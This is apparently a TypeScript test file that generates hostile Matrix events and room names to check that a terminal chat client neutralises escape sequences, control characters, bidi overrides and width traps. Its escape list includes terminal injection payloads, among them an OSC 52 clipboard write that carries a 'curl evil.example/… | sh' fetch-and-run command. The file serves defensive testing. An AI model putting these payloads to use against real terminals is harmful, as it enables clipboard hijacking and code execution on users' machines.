/**
 * Generators of hostile Matrix data for the security properties: text full of escape sequences and
 * terminal controls, fields of every JSON type, events and rooms built from them.
 */
import fc from 'fast-check';
import type {RawEvent} from '../../src/domain/events.js';

/** The payload word inside every hostile sequence below: it must never reach the screen. */
const PAYLOAD = 'pwned';

/**
 * Whole escape sequences, each one an attack a terminal acts on: titles, hyperlinks, clipboard
 * writes, device control strings, cursor and screen control, 8-bit (C1) forms, unterminated ones.
 * SGR colours with parameters the app never uses (blink, conceal, 256-colour, truecolour) are here
 * too, so a leaked one shows up even though the frame checks strip SGR.
 */
export const ESCAPE_SEQUENCES: readonly string[] = [
	`\u001b]0;${PAYLOAD}-title\u0007`, // OSC 0: window title + icon, BEL-terminated
	`\u001b]2;${PAYLOAD}-title\u001b\\`, // OSC 2: title, ST-terminated
	`\u001b]1;${PAYLOAD}\u0007`, // OSC 1: icon name
	`\u001b]8;;https://evil.example/${PAYLOAD}\u001b\\click me\u001b]8;;\u001b\\`, // OSC 8 hyperlink
	`\u001b]8;id=x;file:///etc/${PAYLOAD}\u0007here\u001b]8;;\u0007`,
	`\u001b]52;c;${Buffer.from(`curl evil.example/${PAYLOAD} | sh`).toString('base64')}\u0007`, // OSC 52 clipboard write
	'\u001b]52;c;?\u0007', // OSC 52 clipboard read
	`\u001b]4;1;rgb:ff/00/00\u001b\\`, // palette change
	`\u001b]1337;File=name=${PAYLOAD}:AAAA\u0007`, // iTerm2 file
	`\u001bP+q${PAYLOAD}\u001b\\`, // DCS (XTGETTCAP)
	`\u001bP$q"p\u001b\\`, // DCS DECRQSS
	`\u001b_G${PAYLOAD};AAAA\u001b\\`, // APC (kitty graphics)
	`\u001b^${PAYLOAD}\u001b\\`, // PM
	`\u001bX${PAYLOAD}\u001b\\`, // SOS
	'\u001b[2J', // clear screen
	'\u001b[3J', // clear scrollback
	'\u001b[H', // cursor home
	'\u001b[10;10H',
	'\u001b[1A\u001b[2K', // up, erase line
	'\u001b[?1049l', // leave the alternate screen
	'\u001b[?25h', // show cursor
	'\u001b[?1000h', // mouse reporting
	'\u001b[6n', // cursor position report (answers on stdin)
	'\u001b[21t', // report title (answers on stdin)
	'\u001b[5m', // blink
	'\u001b[8m', // conceal
	'\u001b[38;5;201m',
	'\u001b[48;2;1;2;3m',
	'\u001b[0m',
	'\u001b[31m',
	'\u001bc', // full reset
	'\u001b(0', // DEC line drawing
	'\u001b7',
	'\u001b8',
	'\u001b#8', // screen alignment test (fills the screen with E)
	'\u001bM', // reverse index
	'\u009b2J', // C1 CSI
	'\u009b31m',
	'\u009b?1049l',
	`\u009d0;${PAYLOAD}-title\u009c`, // C1 OSC, C1 ST
	`\u009d8;;https://evil.example/${PAYLOAD}\u0007link\u009d8;;\u0007`,
	`\u009d52;c;${PAYLOAD}\u0007`,
	`\u0090q${PAYLOAD}\u009c`, // C1 DCS
	`\u009f${PAYLOAD}\u009c`, // C1 APC
	`\u0098${PAYLOAD}\u009c`, // C1 SOS
	`\u009e${PAYLOAD}\u009c`, // C1 PM
	// Unterminated or cut short: whatever follows must not become part of a sequence on screen.
	`\u001b]0;${PAYLOAD}`,
	`\u001bP${PAYLOAD}`,
	`\u009d${PAYLOAD}`,
	'\u001b[',
	'\u001b[12;',
	'\u001b',
	'\u009b',
	'\u001b]',
];

/** Single controls: C0 (incl. BEL, CR, BS, NUL, VT, FF), DEL, C1 (all of U+0080–U+009F). */
export const CONTROLS: readonly string[] = [
	'\u0000', '\u0007', '\b', '\t', '\n', '\u000b', '\u000c', '\r', '\r\n', '\u000e', '\u000f', '\u001a', '\u001c', '\u007f',
	...Array.from({length: 32}, (_, index) => String.fromCharCode(0x80 + index)),
];

/** Bidi embeddings, overrides, isolates and marks. */
export const BIDI: readonly string[] = [
	'\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u061c', '\u200e', '\u200f',
];

const LONE_SURROGATES: readonly string[] = ['\ud800', '\udbff', '\udc00', '\udfff', '\ud83d', '\ude00'];

/** Invisible or zero-width: joiners, BOM, soft hyphen, variation selectors, combining marks. */
export const ZERO_WIDTH: readonly string[] = [
	'\u200b', '\u200c', '\u200d', '\ufeff', '\u2060', '\u00ad', '\u034f', '\u180e', '\ufe0f', '\ufe0e', '\u0301', '\u20dd', '\u0489',
	'e\u0301\u0302\u0303\u0304\u0305', // stacked marks
	'\u3164', // Hangul filler: blank but "wide"
];

/** Two-cell characters and multi-code-point emoji (the width traps). */
export const WIDE: readonly string[] = [
	'漢字', '中文字符', '한국어', 'ｆｕｌｌ', 'カタカナ', '👨‍👩‍👧‍👦', '🏳️‍🌈', '🇺🇳', '👍🏽', '🧑‍💻', '❤️', '☕', '🫠', '#️⃣', '🏴󠁧󠁢󠁳󠁣󠁴󠁿',
	'\u{1F600}'.repeat(3), '𠜎𠜱', // astral CJK
];

const WORDS: readonly string[] = ['hello', 'Alice', 'leave', 'spam', ' ', ' ', '  ', 'a', '@', ':', '[', ']', ';', 'm', '\\', '0', '—', '…', 'x'.repeat(70)];

const piece: fc.Arbitrary<string> = fc.oneof(
	{weight: 6, arbitrary: fc.constantFrom(...ESCAPE_SEQUENCES)},
	{weight: 4, arbitrary: fc.constantFrom(...CONTROLS)},
	{weight: 2, arbitrary: fc.constantFrom(...BIDI)},
	{weight: 1, arbitrary: fc.constantFrom(...LONE_SURROGATES)},
	{weight: 2, arbitrary: fc.constantFrom(...ZERO_WIDTH)},
	{weight: 3, arbitrary: fc.constantFrom(...WIDE)},
	{weight: 5, arbitrary: fc.constantFrom(...WORDS)},
	{weight: 2, arbitrary: fc.string({unit: 'binary', maxLength: 6})},
	{weight: 1, arbitrary: fc.integer({min: 0, max: 0xffff}).map((code) => String.fromCharCode(code))},
	{weight: 2, arbitrary: fc.string({unit: 'grapheme', maxLength: 8})},
);

/** Hostile display text: pieces glued together, so sequences also meet across boundaries. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
	{weight: 8, arbitrary: fc.array(piece, {maxLength: 12}).map((pieces) => pieces.join(''))},
	{weight: 1, arbitrary: fc.array(piece, {minLength: 20, maxLength: 80}).map((pieces) => pieces.join(''))},
	{weight: 1, arbitrary: fc.constant('')},
);

/** Any JSON value, with hostile strings at every depth (objects as JSON.parse makes them: with a prototype). */
const anyJson: fc.Arbitrary<unknown> = fc.letrec<{value: unknown}>((tie) => ({
	value: fc.oneof(
		{depthSize: 'small', withCrossShrink: true},
		hostileText,
		fc.constantFrom(null, true, false, 0, -1, 1, 1.5, -0, 1e308, Number.MAX_SAFE_INTEGER, '', 'true', 'join', 'leave', 'm.replace'),
		fc.double({noNaN: true, noDefaultInfinity: true}),
		fc.array(tie('value'), {maxLength: 4}),
		fc.dictionary(fc.oneof(hostileText, fc.constantFrom('body', 'name', 'reason', '__proto__', 'constructor')), tie('value'), {maxKeys: 4, noNullPrototype: true}),
	),
})).value;

/** A field's value: usually hostile text, otherwise any JSON type (or missing). */
const field: fc.Arbitrary<unknown> = fc.oneof(
	{weight: 6, arbitrary: hostileText},
	{weight: 3, arbitrary: anyJson},
	{weight: 1, arbitrary: fc.constant(undefined)},
);

/** MSC3901 / MSC3759 flags: only boolean `true` counts; the rest must be told apart and rendered fine. */
const flag: fc.Arbitrary<unknown> = fc.constantFrom(true, true, 'true', 1, null, false, 'yes', {}, [true], undefined);

const MEMBERSHIPS = ['join', 'leave', 'invite', 'ban', 'knock'] as const;
const membershipValue: fc.Arbitrary<unknown> = fc.oneof(
	{weight: 8, arbitrary: fc.constantFrom<unknown>(...MEMBERSHIPS)},
	{weight: 1, arbitrary: fc.constantFrom<unknown>('JOIN', 'left', 'kick', 'deactivated', '', 'leave\u0000')},
	{weight: 1, arbitrary: field},
);

/** Our own user, and the ids others act as: some plain, some as hostile as a server lets through. */
export const ME = '@me:example.org';
const userIds: readonly string[] = [
	ME,
	'@alice:example.org',
	'@bob:example.org',
	`@mallory\u001b]0;${PAYLOAD}\u0007:evil.example`,
	'@\u202eevil:example.org',
	'@漢字👨‍👩‍👧:example.org',
	'@\u009b2J:example.org',
];
const userId: fc.Arbitrary<string> = fc.oneof({weight: 6, arbitrary: fc.constantFrom(...userIds)}, {weight: 1, arbitrary: hostileText});

/** Optional keys of an object: each present with probability ~1/2, so every combination turns up. */
function someKeys(entries: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
	// fc.record keeps keys whose value is undefined; drop them so "missing" really is missing.
	return fc.record(entries, {requiredKeys: [], noNullPrototype: true}).map((record) => Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined)));
}

/** Content that is not an object at all: arrays, null, strings, numbers, or no content. */
const notAnObject: fc.Arbitrary<unknown> = fc.oneof(
	fc.array(anyJson, {maxLength: 3}),
	fc.constant(null),
	hostileText,
	fc.constantFrom(0, 42, true, 'true', undefined),
);

/** An object content made of `keys`, extra random keys, and the deletion/deactivation markers on anything. */
function content(keys: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
	const object = fc
		.tuple(
			someKeys({
				...keys,
				deleted: flag,
				'm.obsolete': flag,
				'm.deactivated': flag,
				'org.matrix.msc3759.deactivated': flag,
			}),
			fc.dictionary(hostileText, field, {maxKeys: 2, noNullPrototype: true}),
		)
		.map(([known, extra]) => ({...extra, ...known}));
	return fc.oneof({weight: 9, arbitrary: object}, {weight: 1, arbitrary: notAnObject});
}

const memberContent = content({membership: membershipValue, displayname: field, avatar_url: field, reason: field, is_direct: field});

const messageContent = content({
	body: field,
	msgtype: fc.oneof(fc.constantFrom<unknown>('m.text', 'm.emote', 'm.notice', 'm.image', 'm.file'), field),
	format: fc.constantFrom<unknown>('org.matrix.custom.html', undefined),
	formatted_body: field,
	'm.new_content': fc.oneof(content({body: field, msgtype: fc.constantFrom<unknown>('m.text', 'm.emote', 'm.notice')}), field),
	'm.relates_to': fc.oneof(
		someKeys({rel_type: fc.constantFrom<unknown>('m.replace', 'm.annotation', 'm.thread'), event_id: fc.oneof(fc.constantFrom('$e1', '$e2', '$e3', '$e5', '$e8'), field), key: field}),
		field,
	),
});

const STATE_TYPES = [
	'm.room.name', 'm.room.topic', 'm.room.canonical_alias', 'm.room.power_levels', 'm.room.create', 'm.room.join_rules',
	'm.room.history_visibility', 'm.room.avatar', 'm.room.pinned_events', 'm.space.child', 'org.example.poll',
] as const;

const stateContent = content({
	name: field,
	topic: field,
	alias: field,
	alt_aliases: fc.oneof(fc.array(field, {maxLength: 3}), field),
	users: fc.oneof(fc.dictionary(userId, fc.oneof(fc.integer({min: -100, max: 200}), field), {maxKeys: 3, noNullPrototype: true}), field),
	users_default: field,
	events: field,
	url: field,
	question: field,
});

/** Where a redaction leaves its mark; any value counts as redacted except null/undefined. */
const redactedBecause: fc.Arbitrary<unknown> = fc.oneof(
	fc.record({type: fc.constant('m.room.redaction'), sender: userId, content: someKeys({reason: field})}, {noNullPrototype: true}),
	anyJson,
);

const unsigned: fc.Arbitrary<unknown> = fc.oneof(
	{weight: 6, arbitrary: someKeys({prev_content: fc.oneof(memberContent, stateContent), redacted_because: fc.oneof(fc.constant(undefined), fc.constant(undefined), redactedBecause)})},
	{weight: 1, arbitrary: field},
);

/** The parts of an event a sender controls; id, timestamp and sender are set in `roomEvents`. */
type Draft = Record<string, unknown>;

const memberDraft: fc.Arbitrary<Draft> = fc
	.record({
		state_key: userId,
		// Self-leaves, kicks (someone else as sender), and MSC3759 flags on either.
		bySelf: fc.boolean(),
		otherSender: userId,
		content: memberContent,
		unsigned,
		prev_content: fc.option(memberContent, {nil: undefined}),
	}, {noNullPrototype: true})
	.map(({bySelf, otherSender, ...event}) => ({type: 'm.room.member', ...event, sender: bySelf ? event.state_key : otherSender}));

const messageDraft: fc.Arbitrary<Draft> = fc.record({
	type: fc.constantFrom('m.room.message', 'm.room.message', 'm.room.message', 'm.sticker', 'm.room.encrypted'),
	sender: userId,
	content: messageContent,
	unsigned: fc.option(unsigned, {nil: undefined}),
}, {noNullPrototype: true});

const stateDraft: fc.Arbitrary<Draft> = fc.record({
	type: fc.oneof({weight: 3, arbitrary: fc.constantFrom(...STATE_TYPES)}, {weight: 2, arbitrary: hostileText}),
	state_key: fc.oneof(fc.constant(''), fc.constant(''), hostileText, userId),
	sender: userId,
	content: stateContent,
	unsigned: fc.option(unsigned, {nil: undefined}),
}, {noNullPrototype: true});

const otherDraft: fc.Arbitrary<Draft> = fc.record({
	type: fc.oneof(fc.constantFrom('m.room.redaction', 'm.reaction', 'm.call.invite', 'm.poll.start', ''), hostileText),
	sender: userId,
	content: content({body: field, reason: field}),
	redacts: fc.option(field, {nil: undefined}),
}, {noNullPrototype: true});

/** Every field of any JSON type: type, state_key, content, unsigned, prev_content alike. */
const chaosDraft: fc.Arbitrary<Draft> = someKeys({
	type: fc.oneof(fc.constantFrom('m.room.member', 'm.room.message', 'm.room.topic', 'm.room.name'), field),
	state_key: field,
	content: fc.oneof(memberContent, messageContent, anyJson),
	unsigned: field,
	prev_content: field,
	redacts: field,
});

const eventDraft: fc.Arbitrary<Draft> = fc.oneof(
	{weight: 5, arbitrary: memberDraft},
	{weight: 4, arbitrary: messageDraft},
	{weight: 3, arbitrary: stateDraft},
	{weight: 1, arbitrary: otherDraft},
	{weight: 2, arbitrary: chaosDraft},
);

/**
 * `count` events as a homeserver would serve them: ids and timestamps are the server's (so
 * mostly well-formed), everything else is the sender's. Now and then the server is hostile too.
 */
function roomEvents(count: number): fc.Arbitrary<RawEvent[]> {
	return fc
		.array(
			fc.tuple(eventDraft, fc.oneof({weight: 20, arbitrary: fc.constant('server')}, {weight: 1, arbitrary: fc.constant('hostile')}), hostileText, field),
			{minLength: count, maxLength: count},
		)
		.map((drafts) =>
			drafts.map(([draft, server, oddId, oddTs], index) => {
				const event: Record<string, unknown> = {
					event_id: `$e${index}`,
					origin_server_ts: 1_700_000_000_000 + index * 61_000,
					sender: '@alice:example.org',
					...draft,
				};
				if (server === 'hostile') {
					// Still unique: the SDK keys events by id, and so does the timeline.
					event.event_id = `${oddId}#${index}`;
					event.origin_server_ts = oddTs;
				}
				for (const key of Object.keys(event)) if (event[key] === undefined) delete event[key];
				return event as unknown as RawEvent;
			}),
		);
}

/**
 * One screenful of trouble: the room under test (`eventsPerRoom` hostile events, a hostile name),
 * plus an invite with a hostile name and inviter and another joined room, so the room list, the
 * switcher and the invite pane all draw hostile names too.
 */
export function hostileRooms(eventsPerRoom: number) {
	return fc.record({
		name: hostileText,
		events: roomEvents(eventsPerRoom),
		unread: fc.nat(500),
		highlights: fc.nat(3),
		otherName: hostileText,
		inviteName: hostileText,
		inviter: userId,
		inviteEvents: roomEvents(3),
	});
}
